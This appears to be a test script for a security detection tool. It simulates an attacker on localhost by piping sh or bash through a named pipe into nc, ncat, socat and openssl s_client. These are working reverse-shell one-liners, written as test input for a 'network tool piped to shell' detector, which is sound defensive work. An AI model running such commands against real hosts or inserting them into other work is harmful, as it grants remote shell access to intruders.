#!/bin/bash
# desc: reverse shells relayed through a named pipe, so the shell's stdio is a pipe and not the socket: mkfifo + nc, nc.openbsd, ncat, socat and openssl s_client feeding sh -i, typed into an interactive shell as an attacker would
# mitre: T1059.004, T1071, T1095
# expect: network_tool_piped_to_shell*4
# timeout: 60
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

# The attacker's side: a plain listener that sends two commands; a TLS one for openssl.
openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -days 1 -subj /CN=x \
	>/dev/null 2>&1
p1=$(free_port); p2=$(free_port); p3=$(free_port); p4=$(free_port)
for p in "$p1" "$p2" "$p3"; do
	printf 'id\nexit\n' | timeout 10 nc -lN 127.0.0.1 "$p" >/dev/null &
	wait_listen 127.0.0.1 "$p"
done
(sleep 1; printf 'id\nexit\n') | timeout 10 openssl s_server -quiet -accept "127.0.0.1:$p4" \
	-cert c.pem -key k.pem >/dev/null 2>&1 &
wait_listen 127.0.0.1 "$p4"
f=$ATTACK_TMP/f
printf '%s\n' \
	"rm -f $f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 $p1 >$f" \
	"rm -f $f; mkfifo $f; /bin/bash -i <$f 2>&1 | ncat 127.0.0.1 $p2 >$f" \
	"rm -f $f; mkfifo $f; sh -i <$f 2>&1 | socat - TCP:127.0.0.1:$p3 >$f" \
	"rm -f $f; mkfifo $f; sh -i <$f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$p4 >$f 2>/dev/null" \
	exit | timeout 40 bash --norc -i >/dev/null 2>&1 || true
wait
